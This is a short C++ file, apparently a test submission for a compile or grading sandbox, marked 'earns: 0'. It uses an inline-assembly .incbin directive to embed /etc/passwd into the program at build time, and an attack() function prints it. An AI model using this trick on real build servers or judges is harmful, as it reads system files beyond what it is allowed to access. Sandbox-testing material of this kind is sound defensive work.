// earns: 0
// The assembler reads a file of the system into the program.
#include <cstdio>

#include "hello_async.hpp"

asm(".section .rodata\nstolen: .incbin \"/etc/passwd\"\n.byte 0\n.previous");
extern "C" const char stolen[];

static void attack() { std::puts(stolen); }
